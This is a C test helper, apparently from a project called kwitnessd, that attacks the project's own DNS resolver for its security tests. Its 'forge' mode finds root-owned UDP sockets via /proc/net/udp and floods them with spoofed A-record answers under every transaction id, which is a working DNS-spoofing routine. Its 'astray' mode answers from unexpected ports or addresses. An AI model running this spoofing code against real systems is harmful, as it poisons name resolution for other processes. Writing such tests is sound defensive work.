/* SPDX-License-Identifier: Apache-2.0 */
/* kw-dnsattack: the attacks on kwitnessd's resolver that
 * tests/kernel/test_dns_guard.sh runs (docs/security.md, "DNS answers only
 * kwitnessd gives"). DNS bytes are built here from RFC 1035.
 *
 *   forge SRC SRCPORT NAME ADDR SECONDS
 *        answers for the upstream SRC:SRCPORT: binds a UDP socket there and,
 *        for SECONDS, sends every root-owned IPv4 UDP socket that is connected
 *        to SRC:SRCPORT, or unconnected on 0.0.0.0 (an upstream socket as
 *        /proc/net/udp shows it to anyone), the answer "NAME A ADDR" under
 *        every id, paced so that the receiver can keep up, again and again;
 *        a socket whose first datagram is refused is left. Prints "sockets N
 *        sent N refused N" (sockets seen, datagrams sent, sockets that refused).
 *   catch udp|tcp ADDR PORT SECONDS
 *        binds ADDR:PORT (listens, for tcp) and prints "got N" (the bytes of
 *        the first datagram or connection) or "nothing" after SECONDS; the
 *        bind's errno name if it fails.
 *   astray PORTFILE port|addr NAME ADDR
 *        an upstream that answers from where it was not asked: listens on UDP
 *        127.0.0.1 (free port, written to PORTFILE) and answers every
 *        question "NAME A ADDR" with the question's id, from another port of
 *        127.0.0.1 (port) or from 127.0.0.3 with the same port (addr).
 *        Runs until killed (600 s at most).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define DNS_HDR 12
#define MSG_MAX 512
#define MAX_SOCKS 256

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static const char *errno_name(int e)
{
	const char *n = strerrorname_np(e);

	return n ? n : "EUNKNOWN";
}

static int name_encode(const char *text, uint8_t *out)
{
	int n = 0;

	while (*text) {
		const char *dot = strchr(text, '.');
		size_t l = dot ? (size_t)(dot - text) : strlen(text);

		if (l == 0 || l > 63 || n + (int)l + 2 > 255)
			return -1;
		out[n++] = (uint8_t)l;
		memcpy(out + n, text, l);
		n += (int)l;
		text += l + (dot ? 1 : 0);
	}
	out[n++] = 0;
	return n;
}

/* An answer "name A addr" (TTL 60) to a question of id for name. */
static int answer_build(uint16_t id, const char *name, struct in_addr addr, uint8_t *out)
{
	static const uint8_t rr[] = { 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4 };
	int n;

	memset(out, 0, DNS_HDR);
	out[0] = (uint8_t)(id >> 8);
	out[1] = (uint8_t)id;
	out[2] = 0x81; /* QR, RD */
	out[3] = 0x80; /* RA */
	out[5] = 1;    /* QDCOUNT */
	out[7] = 1;    /* ANCOUNT */
	n = name_encode(name, out + DNS_HDR);
	if (n < 0)
		return -1;
	n += DNS_HDR;
	memcpy(out + n, "\0\1\0\1", 4); /* A IN */
	n += 4;
	memcpy(out + n, rr, sizeof(rr));
	n += (int)sizeof(rr);
	memcpy(out + n, &addr, 4);
	return n + 4;
}

struct target {
	unsigned long inode;
	struct sockaddr_in to;
};

/* Root's IPv4 UDP sockets connected to src (or unconnected on 0.0.0.0),
 * not ours and none that refused us before; new ones are counted in seen. */
static int scan(const struct sockaddr_in *src, unsigned long self, struct target *seen,
		int *n_seen, struct target *now)
{
	char line[512];
	int n = 0;
	FILE *f = fopen("/proc/net/udp", "r");

	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f) && n < MAX_SOCKS) {
		unsigned la, lp, ra, rp, uid;
		unsigned long inode;
		int known = -1;

		if (sscanf(line, " %*d: %x:%x %x:%x %*x %*x:%*x %*x:%*x %*x %u %*d %lu", &la, &lp,
			   &ra, &rp, &uid, &inode) != 6 || uid != 0 || inode == self || !inode)
			continue;
		if (!((ra == src->sin_addr.s_addr && rp == ntohs(src->sin_port)) ||
		      (ra == 0 && rp == 0 && la == 0)))
			continue;
		for (int i = 0; i < *n_seen && known < 0; i++)
			if (seen[i].inode == inode)
				known = i;
		if (known >= 0 && seen[known].to.sin_family == AF_UNSPEC)
			continue; /* it refused us */
		if (known < 0 && *n_seen < MAX_SOCKS)
			seen[(*n_seen)++].inode = inode;
		memset(&now[n].to, 0, sizeof(now[n].to));
		now[n].to.sin_family = AF_INET;
		now[n].to.sin_port = htons((uint16_t)lp);
		now[n].to.sin_addr.s_addr = la ? la : htonl(INADDR_LOOPBACK);
		now[n++].inode = inode;
	}
	fclose(f);
	return n;
}

/* Marks inode as one that refused us. */
static void refused_by(struct target *seen, int n_seen, unsigned long inode)
{
	for (int i = 0; i < n_seen; i++)
		if (seen[i].inode == inode)
			seen[i].to.sin_family = AF_UNSPEC;
}

static int do_forge(char **argv)
{
	static struct target seen[MAX_SOCKS], fresh[MAX_SOCKS];
	struct sockaddr_in src = { .sin_family = AF_INET };
	struct in_addr addr;
	struct stat st;
	uint8_t msg[MSG_MAX];
	int fd, n_seen = 0, sent = 0, refused = 0;
	int64_t end = now_ms() + atoi(argv[4]) * 1000LL;

	if (inet_pton(AF_INET, argv[0], &src.sin_addr) != 1 || inet_pton(AF_INET, argv[3], &addr) != 1)
		return 2;
	src.sin_port = htons((uint16_t)atoi(argv[1]));
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&src, sizeof(src))) {
		printf("bind %s\n", errno_name(errno));
		return 1;
	}
	fstat(fd, &st);
	while (now_ms() < end) {
		int n = scan(&src, (unsigned long)st.st_ino, seen, &n_seen, fresh);

		for (int i = 0; i < n && now_ms() < end; i++) {
			for (uint32_t id = 0; id < 65536; id++) {
				int len = answer_build((uint16_t)id, argv[2], addr, msg);

				if (sendto(fd, msg, (size_t)len, 0, (struct sockaddr *)&fresh[i].to,
					   sizeof(fresh[i].to)) < 0) {
					if (errno == EPERM) {
						refused++;
						refused_by(seen, n_seen, fresh[i].inode);
						break;
					}
				} else {
					sent++;
				}
				if ((id & 15) == 15)
					usleep(200); /* the receiver reads 64 a wakeup */
			}
		}
		usleep(10000);
	}
	printf("sockets %d sent %d refused %d\n", n_seen, sent, refused);
	return 0;
}

static int do_catch(char **argv)
{
	struct sockaddr_storage ss;
	socklen_t len;
	int tcp = !strcmp(argv[0], "tcp"), fd, one = 1;
	struct pollfd p;
	char buf[MSG_MAX];
	ssize_t n = -1;

	memset(&ss, 0, sizeof(ss));
	if (inet_pton(AF_INET, argv[1], &((struct sockaddr_in *)&ss)->sin_addr) == 1) {
		ss.ss_family = AF_INET;
		((struct sockaddr_in *)&ss)->sin_port = htons((uint16_t)atoi(argv[2]));
		len = sizeof(struct sockaddr_in);
	} else if (inet_pton(AF_INET6, argv[1], &((struct sockaddr_in6 *)&ss)->sin6_addr) == 1) {
		ss.ss_family = AF_INET6;
		((struct sockaddr_in6 *)&ss)->sin6_port = htons((uint16_t)atoi(argv[2]));
		len = sizeof(struct sockaddr_in6);
	} else {
		return 2;
	}
	fd = socket(ss.ss_family, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (fd < 0 || bind(fd, (struct sockaddr *)&ss, len) || (tcp && listen(fd, 4))) {
		printf("%s\n", errno_name(errno));
		return 1;
	}
	p.fd = fd;
	p.events = POLLIN;
	if (poll(&p, 1, atoi(argv[3]) * 1000) == 1) {
		if (tcp) {
			int c = accept(fd, NULL, NULL);

			p.fd = c;
			n = c >= 0 && poll(&p, 1, 2000) == 1 ? recv(c, buf, sizeof(buf), 0) : 0;
			n = n < 0 ? 0 : n;
		} else {
			n = recv(fd, buf, sizeof(buf), 0);
		}
	}
	if (n >= 0)
		printf("got %zd\n", n);
	else
		printf("nothing\n");
	return 0;
}

static int do_astray(char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET }, b;
	socklen_t len = sizeof(a);
	struct in_addr addr;
	int in, out;
	int64_t end = now_ms() + 600000;
	FILE *f;

	if (inet_pton(AF_INET, argv[3], &addr) != 1)
		return 2;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	in = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	out = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (in < 0 || out < 0 || bind(in, (struct sockaddr *)&a, sizeof(a)) ||
	    getsockname(in, (struct sockaddr *)&a, &len))
		return 1;
	b = a;
	if (!strcmp(argv[1], "port"))
		b.sin_port = 0; /* another port of 127.0.0.1 */
	else
		b.sin_addr.s_addr = htonl(0x7f000003); /* the same port of another address */
	if (bind(out, (struct sockaddr *)&b, sizeof(b)))
		return 1;
	f = fopen(argv[0], "w");
	if (!f || fprintf(f, "%u\n", ntohs(a.sin_port)) < 0 || fclose(f))
		return 1;
	while (now_ms() < end) {
		struct sockaddr_in peer;
		socklen_t pl = sizeof(peer);
		uint8_t q[MSG_MAX], msg[MSG_MAX];
		ssize_t n = recvfrom(in, q, sizeof(q), 0, (struct sockaddr *)&peer, &pl);
		int m;

		if (n < DNS_HDR)
			continue;
		m = answer_build((uint16_t)(q[0] << 8 | q[1]), argv[2], addr, msg);
		if (m > 0)
			sendto(out, msg, (size_t)m, 0, (struct sockaddr *)&peer, pl);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(cmd, "forge") && argc == 7)
		return do_forge(argv + 2);
	if (!strcmp(cmd, "catch") && argc == 6)
		return do_catch(argv + 2);
	if (!strcmp(cmd, "astray") && argc == 6)
		return do_astray(argv + 2);
	fprintf(stderr, "usage: kw-dnsattack forge SRC SRCPORT NAME ADDR SECONDS\n"
			"       kw-dnsattack catch udp|tcp ADDR PORT SECONDS\n"
			"       kw-dnsattack astray PORTFILE port|addr NAME ADDR\n");
	return 2;
}
